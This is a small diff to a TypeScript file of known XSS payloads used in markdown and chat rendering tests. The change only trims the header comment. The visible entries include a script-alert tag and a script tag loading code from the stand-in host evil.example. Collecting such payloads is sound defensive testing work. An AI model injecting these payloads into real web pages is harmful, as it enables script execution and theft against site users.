@@ -1,5 +1,5 @@
 // Known XSS payloads (OWASP cheat sheet, PortSwigger and DOMPurify's own regression cases) used by
-// the markdown and chat rendering tests. Test data only: nothing in the app imports it.
+// the markdown and chat rendering tests.
 export const XSS_PAYLOADS: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
